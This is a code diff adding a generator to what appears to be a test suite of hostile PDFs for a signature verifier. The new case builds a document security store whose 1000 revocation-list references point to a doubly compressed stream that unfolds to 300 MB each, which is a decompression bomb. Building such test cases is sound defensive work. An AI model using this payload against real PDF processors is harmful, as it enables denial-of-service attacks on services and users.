@@ -5,7 +5,7 @@ from typing import Final
 
 from attacks.on_containers import value_of
 from attacks.registry import attack
-from attacks.revisions import append, last_start, opened, root_of, size_of, stream, wrapped, xref_stream
+from attacks.revisions import append, body, last_start, opened, root_of, size_of, stream, wrapped, xref_stream
 from attacks.workshop import Workshop
 
 from signing import der
@@ -255,3 +255,17 @@ def container_with_an_endless_identifier(workshop: Workshop) -> bytes:
     second = first + len(digits) + 2
     said = b"/ByteRange [0 %d %d %d]" % (first, second, len(pdf) - second)
     return pdf.replace(room, said.ljust(len(room)), 1)
+
+
+@attack()
+def store_of_endless_lists(workshop: Workshop) -> bytes:
+    """A security store whose revocation lists unfold to 300 MB each."""
+    pdf = workshop.pdf()
+    number = size_of(pdf)
+    folded = stream(zlib.compress(zlib.compress(bytes(300_000_000), 9), 9), b"/Filter [/FlateDecode /FlateDecode]")
+    with opened(pdf) as reader:
+        catalog = body(reader.Root)
+    store = b"<< /Type /DSS /CRLs [" + b"%d 0 R " % number * 1000 + b"] >>"
+    root = catalog.replace(b"/Type /Catalog", b"/Type /Catalog /DSS %d 0 R" % (number + 1), 1)
+    assert root != catalog
+    return append(pdf, {root_of(pdf): root, number: folded, number + 1: store})
